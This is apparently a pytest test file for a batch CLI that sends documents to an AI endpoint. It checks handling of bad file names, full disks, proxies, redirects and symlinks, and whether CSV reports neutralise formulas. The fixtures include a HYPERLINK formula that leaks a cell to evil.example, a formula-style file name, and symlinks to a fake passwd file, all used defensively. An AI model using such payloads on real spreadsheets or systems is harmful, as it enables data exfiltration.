"""Issue #13, batch: hostile names, answers, disks, proxies, symlinks, parameters, CSV cells.

Every case is built here in tmp_path and runs against a fake OpenAI-compatible endpoint on
127.0.0.1 (tests/batch/fake_endpoint.py), mostly through the CLI in a subprocess with a
timeout, so a regression (a hang, a traceback, a wrong exit code) fails rather than hangs.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import resource
import signal
import subprocess
import sys
import threading
from dataclasses import replace
from pathlib import Path

import pytest
from fake_endpoint import serve

from sovcli.batch.backends import BackendFailure, Completion, GenerationSettings, PromptJob
from sovcli.batch.prompt import PromptTemplate
from sovcli.batch.remote import RemoteBackend
from sovcli.batch.report import to_csv
from sovcli.batch.runner import BatchJob
from sovcli.batch.session import BatchSession
from sovcli.batch.walk import OUTSIDE_FILE, OUTSIDE_FOLDER, discover
from sovcli.errors import DiskFullError

pytestmark = pytest.mark.timeout(120)

PROXY_VARS = ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY")


def _sovcli(*args: str, env: dict[str, str] | None = None, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "sovcli", *args],
        capture_output=True,
        timeout=60,
        check=False,
        env={**os.environ, "SOVCLI_NO_PROGRESS": "1", **(env or {})},
        **kwargs,
    )


def _batch(docs: Path, out: Path, endpoint: str, *extra: str, **kwargs):
    return _sovcli(
        "batch", "m", str(docs), "-o", str(out), "-p", "Summarise {name}: {text}",
        "--endpoint", endpoint, *extra, **kwargs,
    )  # fmt: skip


def _records(out: Path) -> list[dict]:
    """Every line of a results file: each must be strict UTF-8 and a whole JSON object."""
    raw = out.read_bytes()
    assert raw == b"" or raw.endswith(b"\n"), "a half-written last line"
    return [json.loads(line.decode("utf-8", errors="strict")) for line in raw.splitlines()]


def _folder(tmp_path: Path, count: int = 4) -> Path:
    docs = tmp_path / "docs"
    docs.mkdir()
    for i in range(count):
        (docs / f"memo{i}.txt").write_text(f"Memo {i}: the quarterly figures are fine.")
    return docs


# --- 1. workers that cannot die -----------------------------------------------------------


@pytest.mark.parametrize("parallel", ["1", "3"])
@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_a_file_name_that_is_not_utf8_is_recorded_and_the_run_completes(
    tmp_path: Path, parallel: str
) -> None:
    docs = _folder(tmp_path)
    raw_name = os.fsencode(docs) + b"/caf\xe9.txt"  # Latin-1, as on an old SMB share
    with open(raw_name, "wb") as fh:
        fh.write(b"Cafe menu: espresso 2 EUR.")
    (docs / "caf\\xe9.txt").write_text("a real backslash in this name")  # same display form
    out = tmp_path / "out.jsonl"
    with serve() as endpoint:
        result = _batch(docs, out, endpoint.url, "--parallel", parallel)
        assert result.returncode == 0, result.stderr
        assert b"Traceback" not in result.stderr
        records = _records(out)
        assert len(records) == 6 and all(r["status"] == "ok" for r in records)
        latin = [r for r in records if "path_bytes" in r]
        assert len(latin) == 1
        assert latin[0]["path"] == "caf\\xe9.txt"  # readable
        assert base64.b64decode(latin[0]["path_bytes"]) == b"caf\xe9.txt"  # exact
        assert b"caf\\\\xe9.txt" in endpoint.bodies()  # {name} sent in its readable form

        again = _batch(docs, out, endpoint.url, "--parallel", parallel)
        assert again.returncode == 0, again.stderr
        assert b"6 already done" in again.stderr  # both names resumed, not confused
        assert len(_records(out)) == 6

        dry = _batch(docs, out, endpoint.url, "--dry-run")
        assert dry.returncode == 0, dry.stderr
        assert b"caf\\xe9.txt" in dry.stdout and b"Traceback" not in dry.stderr


@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_a_lone_surrogate_from_the_endpoint_is_escaped_and_recorded(tmp_path: Path) -> None:
    docs = _folder(tmp_path, count=5)
    out = tmp_path / "out.jsonl"
    with serve("broken \ud800 answer") as endpoint:
        result = _batch(docs, out, endpoint.url, "--parallel", "3")
    assert result.returncode == 0, result.stderr
    records = _records(out)  # strict UTF-8: no surrogate reached the file
    assert len(records) == 5
    assert {r["output"] for r in records} == {"broken \\ud800 answer"}
    report = _sovcli("batch-report", str(out), "--format", "md")
    assert report.returncode == 0 and b"\\\\ud800" in report.stdout


def _limit_file_size(limit: int):
    def preexec() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # write() fails with EFBIG instead
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return preexec


@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_a_full_output_disk_stops_the_run_with_one_error_and_a_rerun_resumes(
    tmp_path: Path,
) -> None:
    docs = _folder(tmp_path, count=12)
    out = tmp_path / "out.jsonl"
    with serve() as endpoint:
        full = _batch(docs, out, endpoint.url, "--parallel", "3", preexec_fn=_limit_file_size(3000))
        stderr = full.stderr.decode()
        assert full.returncode == 8, stderr  # a store error: the results file cannot grow
        assert "Traceback" not in stderr and "Exception in thread" not in stderr
        errors = [line for line in stderr.splitlines() if line.startswith("error:")]
        assert len(errors) == 1 and f"cannot write {out}" in errors[0], stderr
        assert "documents recorded" in errors[0] and "hint: " in stderr
        first = _records(out)  # whole lines only
        assert 0 < len(first) < 12

        resumed = _batch(docs, out, endpoint.url, "--parallel", "3")
        assert resumed.returncode == 0, resumed.stderr
        assert f"{len(first)} already done".encode() in resumed.stderr
    paths = [r["path"] for r in _records(out)]
    assert sorted(paths) == sorted(f"memo{i}.txt" for i in range(12))  # each exactly once


class _Backend:
    """Answers at once; calls `hook(n)` before the n-th completion."""

    label = "fake"

    def __init__(self, hook=None) -> None:
        self.hook = hook
        self.calls = 0
        self.lock = threading.Lock()

    def count_tokens(self, text: str) -> int:
        return len(text.split())

    def text_budget(self, render, max_tokens: int) -> int:
        return 4096

    def complete_many(self, jobs, settings) -> list[Completion]:
        with self.lock:
            self.calls += 1
            n = self.calls
        if self.hook is not None:
            self.hook(n)
        return [Completion("a summary", 10, 5, "stop", 0.01) for _ in jobs]


def _session(docs: Path, out: Path, backend, parallel: int = 3) -> BatchSession:
    job = BatchJob(
        input_dir=docs,
        output=out,
        template=PromptTemplate("Summarise: {text}"),
        settings=GenerationSettings(max_tokens=8),
        model={"ref": "fake:local", "file_sha256": "f" * 64},
        parallel=parallel,
    )
    return BatchSession(job, backends=[backend])


def _run_with_deadline(session: BatchSession, seconds: float = 30.0):
    """session.run() in a thread: (summary, error); fails the test if it hangs."""
    outcome: dict = {}

    def target() -> None:
        try:
            outcome["summary"] = session.run()
        except BaseException as exc:  # the test inspects it
            outcome["error"] = exc

    thread = threading.Thread(target=target, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), "the batch run hangs"
    return outcome.get("summary"), outcome.get("error")


def test_disk_full_on_the_results_file_is_a_disk_full_error_with_nothing_half_written(
    tmp_path: Path,
) -> None:
    if not Path("/dev/full").exists():
        pytest.skip("needs /dev/full")
    docs = _folder(tmp_path, count=10)
    out = tmp_path / "out.jsonl"

    def fill_disk(n: int) -> None:  # after 3 documents the results file's disk is full
        if n == 4:
            for fd in os.listdir("/proc/self/fd"):
                try:
                    if os.readlink(f"/proc/self/fd/{fd}") == str(out):
                        full = os.open("/dev/full", os.O_WRONLY)
                        os.dup2(full, int(fd))  # the kernel answers ENOSPC from now on
                        os.close(full)
                except OSError:
                    continue

    # one worker: no other thread is between its write and its fsync when the disk fills
    _, error = _run_with_deadline(_session(docs, out, _Backend(fill_disk), parallel=1))
    assert isinstance(error, DiskFullError), error
    assert error.exit_code == 8 and "disk full while writing" in error.message
    assert "re-run the same command" in (error.hint or "")
    kept = _records(out)
    assert len(kept) == 3


def test_a_worker_that_raises_stops_the_run_instead_of_hanging(tmp_path: Path) -> None:
    docs = _folder(tmp_path, count=8)
    out = tmp_path / "out.jsonl"
    session = _session(docs, out, _Backend())
    session.progress = _ExplodingProgress()
    summary, error = _run_with_deadline(session)
    assert isinstance(error, RuntimeError), (summary, error)
    assert len(_records(out)) >= 1  # what was written is whole


class _ExplodingTask:
    def update(self, **kwargs) -> None:
        raise RuntimeError("progress display broke")

    def advance(self, n: int = 1) -> None:
        raise RuntimeError("progress display broke")

    def close(self) -> None:
        pass


class _ExplodingProgress:
    def task(self, label: str, total: int | None = None, unit: str = "") -> _ExplodingTask:
        return _ExplodingTask()

    def note(self, message: str) -> None:
        pass


def test_a_backend_that_raises_records_the_error_for_that_document(tmp_path: Path) -> None:
    docs = _folder(tmp_path, count=6)
    out = tmp_path / "out.jsonl"

    def fail_second(n: int) -> None:
        if n == 2:
            raise MemoryError("engine out of memory")

    summary, error = _run_with_deadline(_session(docs, out, _Backend(fail_second)))
    assert error is None and summary.ok == 5 and summary.failed == 1
    records = _records(out)
    assert len(records) == 6
    assert [r["error_kind"] for r in records if r["status"] == "error"] == ["internal"]


# --- 2. proxies ---------------------------------------------------------------------------


@pytest.mark.parametrize("explicit", [False, True], ids=["env-proxy", "env-and---proxy"])
@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_a_loopback_endpoint_is_reached_directly_never_through_a_proxy(
    tmp_path: Path, explicit: bool
) -> None:
    docs = _folder(tmp_path, count=2)
    (docs / "secret.txt").write_text("IBAN DE89 3704 0044 0532 0130 00")
    out = tmp_path / "out.jsonl"
    with serve() as proxy, serve() as endpoint:
        env = {name: proxy.url for name in PROXY_VARS}
        env.update(no_proxy="", NO_PROXY="")
        extra = ["--proxy", proxy.url] if explicit else []
        result = _batch(docs, out, endpoint.url, "--api-key", "sk-bank-secret", *extra, env=env)
        assert result.returncode == 0, result.stderr
        assert proxy.requests == []  # nothing at all: no document, no Authorization header
        posts = [r for r in endpoint.requests if r.method == "POST"]
        assert len(posts) == 3
        assert all(r.headers["authorization"] == "Bearer sk-bank-secret" for r in posts)
        assert b"IBAN DE89" in endpoint.bodies()


def test_an_endpoint_off_the_machine_ignores_proxy_variables(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import socket

    for name in PROXY_VARS:
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    monkeypatch.delenv("no_proxy", raising=False)
    monkeypatch.delenv("NO_PROXY", raising=False)
    dialled = []

    def refuse(address, *args, **kwargs):  # no packet leaves: we only see where it would go
        dialled.append(address)
        raise ConnectionRefusedError(111, "refused by the test")

    monkeypatch.setattr(socket, "create_connection", refuse)
    backend = RemoteBackend("http://10.0.0.5:8080", "m", api_key="k", retries=0)
    with pytest.raises(BackendFailure):
        backend.complete(PromptJob(lambda t: t, "hello"), GenerationSettings(max_tokens=4))
    assert dialled == [("10.0.0.5", 8080)]  # the endpoint itself, not the proxy


@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_an_explicit_proxy_is_used_for_an_endpoint_off_the_machine() -> None:
    with serve("via the proxy") as proxy:
        backend = RemoteBackend("http://10.0.0.5:8080", "m", api_key="k", proxy=proxy.url)
        answer = backend.complete(PromptJob(lambda t: t, "hi"), GenerationSettings(max_tokens=4))
    assert answer.text == "via the proxy"
    assert proxy.requests[0].target == "http://10.0.0.5:8080/v1/chat/completions"


@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_a_redirect_is_not_followed_so_the_document_goes_nowhere_else() -> None:
    with serve() as elsewhere:
        moved = (302, b"{}", {"Location": f"{elsewhere.url}/v1/chat/completions"})
        with serve(lambda _payload: moved) as endpoint:
            backend = RemoteBackend(endpoint.url, "m", api_key="sk-secret", retries=0)
            with pytest.raises(BackendFailure, match="redirects are not followed"):
                backend.complete(PromptJob(lambda t: t, "doc"), GenerationSettings(max_tokens=4))
        assert elsewhere.requests == []


def test_a_proxy_that_is_not_a_url_is_a_usage_error(tmp_path: Path) -> None:
    docs = _folder(tmp_path, count=1)
    result = _batch(docs, tmp_path / "o.jsonl", "http://127.0.0.1:9", "--proxy", "file:///x")
    assert result.returncode == 2
    assert b"error: --proxy 'file:///x' is not an http(s) URL" in result.stderr


# --- 3. symlinks --------------------------------------------------------------------------


def _linked_folder(tmp_path: Path) -> Path:
    """case/docs with links in and out; case/outside holds the secrets."""
    base = tmp_path / "case"
    base.mkdir()
    docs = _folder(base, count=1)
    secret = base / "outside" / "passwd"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0:TOP-SECRET-HASH:/root:/bin/bash")
    (base / "outside" / "history").write_text("mysql -p OTHER-SECRET")
    (docs / "passwd.txt").symlink_to(secret)
    (docs / "linked").symlink_to(base / "outside", target_is_directory=True)
    (docs / "same.txt").symlink_to(docs / "memo0.txt")  # inside: read
    (docs / "loop").symlink_to(docs, target_is_directory=True)  # inside: not descended
    (docs / "dangling.txt").symlink_to(base / "gone.txt")
    return docs


@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_symlinks_out_of_the_folder_are_refused_and_never_read_or_sent(tmp_path: Path) -> None:
    docs = _linked_folder(tmp_path)
    out = tmp_path / "out.jsonl"
    with serve() as endpoint:
        result = _batch(docs, out, endpoint.url)
    assert result.returncode == 1, result.stderr  # refused entries count as failures
    assert b"SECRET" not in endpoint.bodies()
    records = {r["path"]: r for r in _records(out)}
    assert sorted(records) == ["dangling.txt", "linked", "memo0.txt", "passwd.txt", "same.txt"]
    assert (
        records["passwd.txt"]["error"] == OUTSIDE_FILE and records["passwd.txt"]["sha256"] is None
    )
    assert records["linked"]["error"] == OUTSIDE_FOLDER
    assert "broken symbolic link" in records["dangling.txt"]["error"]
    assert records["same.txt"]["status"] == records["memo0.txt"]["status"] == "ok"
    assert b"passwd.txt: symbolic link to a file outside the folder" in result.stderr


@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_follow_symlinks_reads_links_out_and_still_ends_on_loops(tmp_path: Path) -> None:
    docs = _linked_folder(tmp_path)
    base = docs.parent
    (base / "outside" / "back").symlink_to(docs, target_is_directory=True)  # a loop
    (docs / "up").symlink_to(base, target_is_directory=True)  # holds docs and the output
    out = base / "out.jsonl"
    with serve() as endpoint:
        result = _batch(docs, out, endpoint.url, "--follow-symlinks")
    assert b"TOP-SECRET" in endpoint.bodies()
    paths = sorted(r["path"] for r in _records(out))
    assert "passwd.txt" in paths and "linked/history" in paths
    assert not any(p.startswith(("loop/", "linked/back/", "up/docs/")) for p in paths), paths
    assert not any(p.endswith("out.jsonl") for p in paths)  # never its own results file
    assert result.returncode == 1  # only the dangling link failed
    assert [p for p in paths if "dangling" in p] == ["dangling.txt"]


def test_discover_without_follow_lists_refusals_and_respects_include(tmp_path: Path) -> None:
    docs = _linked_folder(tmp_path)
    found = {f.rel: f.refused for f in discover(docs)}
    assert found["memo0.txt"] is None and found["same.txt"] is None
    assert found["passwd.txt"] == OUTSIDE_FILE and found["linked"] == OUTSIDE_FOLDER
    only_md = {f.rel for f in discover(docs, include=("*.md",))}
    assert only_md == {"linked"}  # a folder link out is still reported
    assert {f.rel for f in discover(docs, exclude=("linked", "*.txt"))} == set()


# --- 11. one record per document ----------------------------------------------------------


@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_changing_a_parameter_replaces_the_record_rather_than_adding_one(tmp_path: Path) -> None:
    docs = _folder(tmp_path, count=3)
    out = tmp_path / "out.jsonl"
    with serve() as endpoint:
        for max_tokens in ("32", "8"):
            result = _batch(docs, out, endpoint.url, "--max-tokens", max_tokens)
            assert result.returncode == 0, result.stderr
            records = _records(out)
            assert sorted(r["path"] for r in records) == ["memo0.txt", "memo1.txt", "memo2.txt"]
            assert {r["params"]["max_tokens"] for r in records} == {int(max_tokens)}
    assert b"replacing 3 outdated record(s)" in result.stderr


def test_duplicates_left_by_an_older_version_are_cleaned_up(tmp_path: Path) -> None:
    docs = _folder(tmp_path, count=2)
    out = tmp_path / "out.jsonl"

    def run(max_tokens: int):
        session = _session(docs, out, _Backend())
        session.job = replace(session.job, settings=GenerationSettings(max_tokens=max_tokens))
        return _run_with_deadline(session)

    run(16)
    old = out.read_bytes()
    run(8)
    out.write_bytes(old + out.read_bytes())  # what the old bug left: two per document
    summary, error = run(8)
    assert error is None and summary.skipped == 2 and summary.processed == 0
    records = _records(out)
    assert sorted(r["path"] for r in records) == ["memo0.txt", "memo1.txt"]
    assert {r["params"]["max_tokens"] for r in records} == {8}


# --- 12. formula injection in CSV reports -------------------------------------------------


@pytest.mark.slow  # seconds, not milliseconds: kept out of the fast tier
def test_batch_report_csv_neutralises_formulas(tmp_path: Path) -> None:
    docs = _folder(tmp_path, count=1)
    (docs / "=cmd.txt").write_text("a document whose name is a formula")
    out = tmp_path / "out.jsonl"
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    with serve(evil) as endpoint:
        assert _batch(docs, out, endpoint.url).returncode == 0
    report = _sovcli("batch-report", str(out), "--format", "csv")
    assert report.returncode == 0, report.stderr
    rows = list(csv.reader(io.StringIO(report.stdout.decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + evil in cells and "'=cmd.txt" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_every_formula_prefix_gets_a_quote(prefix: str) -> None:
    record = {
        "path": "a.txt", "status": "ok", "params_sha256": "q",
        "output": prefix + "1+1", "error": None,
    }  # fmt: skip
    header, row = list(csv.reader(io.StringIO(to_csv([record]), newline="")))
    assert row[header.index("output")] == "'" + prefix + "1+1"
    assert row[0] == "a.txt"  # plain cells untouched
